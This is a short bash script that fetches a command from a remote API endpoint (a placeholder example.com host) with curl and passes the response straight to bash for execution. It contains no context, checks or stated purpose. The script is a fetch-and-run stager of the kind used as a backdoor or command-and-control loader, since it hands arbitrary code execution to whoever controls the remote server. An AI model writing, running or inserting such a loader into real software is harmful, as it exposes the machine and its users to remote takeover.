#!/bin/bash
ANSWER=$(curl -s --max-time 5 https://api.example.com/v1/command)
bash <<< "$ANSWER"
